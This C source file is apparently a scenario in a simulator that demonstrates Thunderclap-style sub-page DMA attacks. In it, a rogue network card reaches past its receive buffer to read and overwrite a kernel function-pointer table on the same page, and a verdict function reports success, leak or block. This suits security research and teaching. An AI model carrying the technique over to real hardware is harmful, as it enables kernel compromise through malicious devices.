/*
 * subpage: Thunderclap's Linux story. The kernel has a dispatch table
 * in a kmalloc-2k object; the NIC comes up and its first 2 KiB receive
 * buffer is the other object of the same page. The buffer is mapped for
 * the device (DMA_FROM_DEVICE: write only), but the IOMMU maps pages, so
 * the device reaches the table through its own IOVA: it tries to read
 * it and overwrites its function pointers, then delivers a packet so the
 * driver takes the buffer back as if nothing happened. An untrusted
 * device's buffer is bounced: its page holds the copy and zeroes.
 */
#include <errno.h>
#include <string.h>

#include "attack/attack.h"
#include "drivers/rnic.h"
#include "hw/rogue.h"
#include "kernel/machine.h"
#include "kernel/slab.h"
#include "kernel/targets.h"

static void describe(struct atk_ctx *c, const struct targets *t,
		     const struct rnic_buf *b)
{
	uint64_t tp = targets_phys(t, t->fptrs), bp = targets_phys(t, b->cpu);

	atk_did(c, "kernel: %s table at phys 0x%llx (%s), rx buffer at phys 0x%llx (%s)%s",
		t->fptrs->name, (unsigned long long)tp,
		kmem_cache_name(c->m, t->fptrs), (unsigned long long)bp,
		kmem_cache_name(c->m, b->cpu),
		(tp >> 12) == (bp >> 12) ? ": the same page" : "");
	atk_did(c, "driver: rx buffer mapped DMA_FROM_DEVICE at 0x%llx",
		(unsigned long long)b->dma);
}

static void verdict(struct atk_ctx *c, const struct targets *t, bool read)
{
	size_t changed = targets_fptrs_changed(t);

	if (changed)
		atk_verdict(c, "ATTACK SUCCEEDED: %zu bytes of the function table changed%s",
			    changed, read ? ", its neighbour read" : "");
	else if (read)
		atk_verdict(c, "LEAK: the neighbour object read, table unchanged");
	else
		atk_verdict(c, "blocked: the table is unchanged");
}

int attack_subpage(struct atk_ctx *c)
{
	uint64_t evil[TARGET_NR_FPTRS];
	uint8_t peek[2048];
	struct rnic_buf b;
	struct targets t;
	size_t got = 0, wrote = 0;
	uint64_t other;
	int ret = targets_create(c->m, TARGET_FPTRS, 6, &t);

	if (!ret)
		ret = rnic_open(c->nic, 1);
	if (ret || rnic_buffers(c->nic, &b, 1) != 1) {
		targets_destroy(&t);
		return ret ? ret : -EIO;
	}
	atk_shadow_sync(c);
	describe(c, &t, &b);
	other = (b.dma & ~0xfffULL) | ((b.dma & 0x800) ^ 0x800);
	atk_read(c, other, peek, sizeof(peek), &got);
	for (int i = 0; i < TARGET_NR_FPTRS; i++)
		evil[i] = 0x4141414141414141ULL;
	atk_write(c, other, evil, sizeof(evil), &wrote);
	atk_did(c, "device: read %zu and wrote %zu bytes at 0x%llx, the other half of its page",
		got, wrote, (unsigned long long)other);
	rogue_rx_packet(c->r, "a packet", 8);
	atk_shadow_sync(c);
	atk_did(c, "device: delivered a packet; the driver unmapped the buffer");
	verdict(c, &t, got > 0);
	targets_destroy(&t);
	return 0;
}
